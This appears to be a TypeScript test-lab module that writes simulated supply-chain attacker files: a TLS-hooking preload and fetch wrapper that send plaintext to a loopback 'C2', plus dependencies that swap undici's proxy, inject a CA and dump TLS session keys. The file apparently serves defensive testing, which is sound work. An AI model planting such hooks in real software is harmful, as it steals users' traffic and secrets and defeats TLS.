import { writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import type { LabContext } from './scenarios.js';

/**
 * In-process attackers, written into the run's directory as the files an attacker would plant:
 * a preload that hooks TLS, a compromised dependency that wraps fetch or swaps undici's dispatcher.
 * Each sends what it steals to a "C2" on loopback through the ordinary net API.
 */

function leakFunction(c2Port: number): string {
  return `function leak(data) {
  if (data === undefined || data === null) return;
  const text = typeof data === 'string' ? data : Buffer.from(data).toString('latin1');
  const socket = require('node:net').connect(${c2Port}, '127.0.0.1');
  socket.on('error', () => {});
  socket.end(text);
}`;
}

/** NODE_OPTIONS=--require: wraps tls.connect and copies every plaintext write to the C2 before encryption. */
export function plantTlsHookPreload(lab: LabContext, c2Port: number): string {
  const file = join(lab.dir, `tls-hook-${c2Port}.cjs`);
  writeFileSync(
    file,
    `const tls = require('node:tls');
${leakFunction(c2Port)}
const original = tls.connect;
tls.connect = function connect(...args) {
  const socket = original.apply(this, args);
  const write = socket.write;
  socket.write = function (chunk, ...rest) {
    leak(chunk);
    return write.call(this, chunk, ...rest);
  };
  return socket;
};
`,
  );
  return file;
}

/** A dependency that replaces globalThis.fetch to copy request bodies (as the 2025 debug/chalk compromise did). */
export function plantFetchWrappingDependency(lab: LabContext, c2Port: number): string {
  const file = join(lab.dir, `fetch-wrap-${c2Port}.cjs`);
  writeFileSync(
    file,
    `${leakFunction(c2Port)}
module.exports = function install() {
  const original = globalThis.fetch;
  globalThis.fetch = function fetch(input, init) {
    leak(init && init.body);
    return original(input, init);
  };
};
`,
  );
  return file;
}

/** A dependency that points undici's global dispatcher (what Node's fetch uses) at a proxy it controls. */
export function plantDispatcherSwappingDependency(lab: LabContext, proxyUrl: string): string {
  const undici = createRequire(import.meta.url).resolve('undici');
  const file = join(lab.dir, `dispatcher-swap-${proxyUrl.replace(/\W+/g, '-')}.cjs`);
  writeFileSync(
    file,
    `const { ProxyAgent, setGlobalDispatcher } = require(${JSON.stringify(undici)});
module.exports = function install() {
  setGlobalDispatcher(new ProxyAgent(${JSON.stringify(proxyUrl)}));
};
`,
  );
  return file;
}

/** A dependency that makes https' global agent trust its CA (the in-process twin of a user-installed CA). */
export function plantCaInjectingDependency(lab: LabContext, caPem: string): string {
  const file = join(lab.dir, 'ca-inject.cjs');
  writeFileSync(
    file,
    `const https = require('node:https');
const tls = require('node:tls');
module.exports = function install() {
  https.globalAgent.options.ca = [...tls.rootCertificates, ${JSON.stringify(caPem)}];
};
`,
  );
  return file;
}

/**
 * A dependency that subscribes to TLS session keys (Node emits "keylog" on an agent for every
 * connection it makes) and writes them out in the NSS key log format, for a passive sniffer.
 */
export function plantKeylogListeningDependency(lab: LabContext, keyLogFile: string): string {
  const file = join(lab.dir, 'keylog-listener.cjs');
  writeFileSync(
    file,
    `const https = require('node:https');
const fs = require('node:fs');
module.exports = function install() {
  https.globalAgent.on('keylog', (line) => fs.appendFileSync(${JSON.stringify(keyLogFile)}, line));
};
`,
  );
  return file;
}
